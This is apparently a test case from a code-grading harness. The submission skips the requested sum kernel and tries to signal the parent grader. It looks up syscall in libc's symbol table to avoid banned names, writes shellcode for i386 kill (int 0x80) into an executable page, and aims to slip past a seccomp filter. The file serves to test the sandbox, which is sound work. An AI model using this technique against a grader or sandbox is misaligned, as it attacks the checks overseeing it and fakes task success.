// expect: gpu=attacked-grader|unwritten-output|crash emu=attacked-grader|crash  args=--sizes=1000,--blocks=256 -- Has no kernel: signals its parent, the grader, through the 32-bit system call gate (int $0x80: i386's kill is number 37, where x86_64's 37 is alarm), hoping the seccomp filter tests x86_64's numbers only and lets i386's through.  The build refuses inline assembly, so the code is written into a page it maps executable (mmap through libc's syscall, from its table).  The filter checks the calling convention first (AUDIT_ARCH_X86_64): any other ends the process, attacked-grader (or, where no executable page is given, the result stays unwritten).  A kernel built without the 32-bit gate (IA32 emulation off: a Linux 6.18 machine here) faults at the int instead, SIGSEGV before any filter sees a call: a crash, the grader untouched.  The signal is SIGCONT, which does no harm should it arrive.
// mistake: no kernel; kill of the grader through the i386 system call gate
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <elf.h>

// libc's own entry for `name`: the image holding fputs begins with an ELF
// header at a page boundary below it; its dynamic section leads to the
// symbol and string tables.  Nothing refused is named in this object.
static void *from_libc_table(const char *name)
{
    uintptr_t at = (uintptr_t)(void *)&fputs & ~(uintptr_t)0xfff;
    for (; std::memcmp((const void *)at, ELFMAG, SELFMAG) != 0; at -= 0x1000) {
    }
    const Elf64_Ehdr *head = (const Elf64_Ehdr *)at;
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < head->e_phnum; i++) {
        const Elf64_Phdr *seg = (const Elf64_Phdr *)(at + head->e_phoff) + i;
        if (seg->p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(at + seg->p_vaddr);
    }
    const Elf64_Sym *table = nullptr;
    const char *text = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t p = dyn->d_un.d_ptr;
        if (p < at)
            p += at;
        if (dyn->d_tag == DT_SYMTAB)
            table = (const Elf64_Sym *)p;
        else if (dyn->d_tag == DT_STRTAB)
            text = (const char *)p;
    }
    if (!table || !text)
        return nullptr;
    for (const Elf64_Sym *s = table + 1; (const char *)s < text; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(text + s->st_name, name) == 0)
            return (void *)(at + s->st_value);
    return nullptr;
}

typedef long (*sys_fn)(long, ...);
#include <cerrno>
static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    static sys_fn call = (sys_fn)from_libc_table("syscall");
    return call ? call(nr, a, b, c, d, e, f) : -1;
}
#include <sys/syscall.h>
#include <sys/mman.h>
#include <unistd.h>

// i386's kill (37) through the 32-bit gate, int $0x80, in machine code
// written to a page of its own (the build refuses inline assembly):
//   mov eax, 37; mov ebx, ppid; mov ecx, 18 (SIGCONT); int 0x80; ret
static void attack()
{
    long page = sys(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == -1) {
        printf("gate: no executable page (errno %d)\n", errno);
        fflush(stdout);
        return;
    }
    unsigned char *code = (unsigned char *)page;
    unsigned int parent = (unsigned int)sys(SYS_getppid);
    unsigned char text[] = { 0xb8, 37, 0, 0, 0, 0xbb, 0, 0, 0, 0, 0xb9, 18, 0, 0, 0, 0xcd, 0x80, 0xc3 };
    std::memcpy(text + 6, &parent, 4);
    std::memcpy(code, text, sizeof text);
    printf("gate: calling int 0x80\n");
    fflush(stdout);
    int rc = ((int (*)())code)();
    printf("gate: returned %d\n", rc);
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
    (void)d_input, (void)d_result, (void)n, (void)block;
    static bool done;
    if (!done) {
        done = true;
        attack();
    }
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
    sum_atomic(d_input, d_result, n, block);
}
